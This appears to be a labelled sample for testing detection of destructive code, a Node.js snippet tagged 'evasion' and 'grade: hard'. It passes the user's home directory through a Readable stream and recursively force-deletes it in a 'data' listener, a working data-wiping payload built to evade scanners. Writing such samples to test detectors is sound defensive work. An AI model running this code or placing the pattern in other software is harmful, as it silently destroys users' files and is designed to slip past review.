// evasion: the home travels as a chunk of Readable.from into a 'data' listener that deletes
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const { Readable } = require('stream');

const dirs = Readable.from([os.homedir()], { objectMode: true });
dirs.on('data', (dir) => {
  fs.rmSync(dir, { recursive: true, force: true });
});
